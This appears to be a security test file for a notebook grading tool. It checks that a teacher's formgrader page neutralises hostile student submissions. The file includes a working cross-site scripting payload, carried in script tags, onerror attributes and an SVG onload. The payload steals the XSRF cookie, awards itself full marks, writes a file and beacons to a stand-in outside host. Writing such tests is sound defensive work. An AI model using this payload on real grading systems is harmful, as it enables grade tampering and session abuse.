"""The real formgrader, opened on hostile submissions: no request, no grade, no file."""

import http.server
import threading

import nbformat
import pytest

from mtedu_grader import gradebook_write
from tests.browser.chromium import PATIENCE, kept
from tests.browser.test_jupyterlab import ROOT, TOKEN, served
from tests.grader import submissions as make
from tests.grader.classroom import LAB
from tests.grader.in_process import InProcess

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("released")]

# With the teacher's rights: full marks for oneself, a file, a word to somebody outside.
EVIL = """(async () => {
  window.evil = true;
  const told = new Image(); told.src = 'PLACE/ran';
  const key = document.cookie.match(/_xsrf=([^;]+)/)[1];
  const headers = {'Content-Type': 'application/json', 'X-XSRFToken': key};
  const id = location.pathname.match(/submissions.([0-9a-f]+)/)[1];
  const grades = await fetch('/formgrader/api/grades?submission_id=' + id, {headers});
  for (const one of await grades.json())
    await fetch('/formgrader/api/grade/' + one.id,
      {method: 'PUT', headers, body: JSON.stringify({manual_score: one.max_score})});
  await fetch('/api/contents/evil.txt', {method: 'PUT', headers,
    body: JSON.stringify({type: 'file', format: 'text', content: 'x'})});
})()"""
CARRIERS = {
    "text/html": "<b>honest</b><script>EVIL</script><img src=x onerror='EVIL'>",
    "image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload='EVIL'></svg>",
    "application/javascript": "EVIL",
    "text/markdown": "![a](PLACE/picture) <img src=x onerror='EVIL'>",
}
WRITTEN = "BLEU <img src=x onerror='EVIL'> ![a](PLACE/seen) <script>EVIL</script>"


@pytest.fixture
def outside():
    """Somebody who hears of every request."""
    heard = []

    class Ear(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            heard.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, *words):
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Ear) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}", heard
        server.shutdown()


def filled(text, place):
    return text.replace("EVIL", EVIL.replace("'", "&#39;")).replace("PLACE", place)


def hand_in(room, place):
    """A hostile submission: in outputs, in the written answer, in another cell."""
    book = make.released(LAB)
    for cell in book.cells:
        if cell.cell_type == "markdown" and cell.metadata.get("nbgrader"):
            cell.source = filled(WRITTEN, place)
    book.cells.append(nbformat.v4.new_markdown_cell(filled(WRITTEN, place), id="more"))
    room.submit("eve", notebook=book)
    outputs = [
        {
            "output_type": "display_data",
            "metadata": {},
            "data": {kind: text.replace("EVIL", EVIL).replace("PLACE", place)},
        }
        for kind, text in CARRIERS.items()
    ]
    room.grade(InProcess({"ngrams": outputs}))


@pytest.fixture
def open_page(room, chromium, tmp_path):
    """Open the submission as a teacher does, and wait until all is quiet."""

    def look(*options):
        (number,) = room.rows("SELECT id FROM submitted_notebook")[0]
        command = ["jupyterlab", "--no-browser", "--allow-root", *options]
        context = chromium.new_context(viewport={"width": 1000, "height": 1000})
        context.set_default_timeout(PATIENCE)
        with served(room.folder, command, tmp_path) as (address, _):
            page = context.new_page()
            page.goto(f"{address}/formgrader/submissions/{number}/?token={TOKEN}")
            page.get_by_text("honest").first.wait_for()
            page.wait_for_load_state("networkidle")
            page.wait_for_timeout(1000)
            kept("formgrader_hostile", page, full_page=True)
            ran = page.evaluate("window.evil === true")
        context.close()
        given = "SELECT count(*) FROM grade WHERE manual_score IS NOT NULL"
        return room.rows(given)[0][0], list(room.folder.rglob("evil*")), ran

    return look


def test_nothing_of_a_submission_works_there(room, outside, open_page):
    place, heard = outside
    hand_in(room, place)
    assert open_page() == (0, [], False)
    assert heard == []


@pytest.mark.long
def test_otherwise_it_would(room, outside, open_page, monkeypatch):
    """The same submission as it was handed in has the teacher's rights."""
    place, heard = outside
    monkeypatch.setattr(gradebook_write, "harmless", lambda notebook, trusted: notebook)
    hand_in(room, place)
    assert open_page()[2]
    assert "/ran" in heard


@pytest.mark.long
def test_the_policy_keeps_it_from_telling_anybody(
    room, outside, open_page, monkeypatch
):
    """A second wall: what ran all the same would reach no server but this one."""
    place, heard = outside
    monkeypatch.setattr(gradebook_write, "harmless", lambda notebook, trusted: notebook)
    hand_in(room, place)
    settings = ROOT / "course" / "jupyter_server_config.py"
    ran = open_page(f"--config={settings}")[2]
    assert ran, "the page's own scripts do not run any more"
    assert heard == []
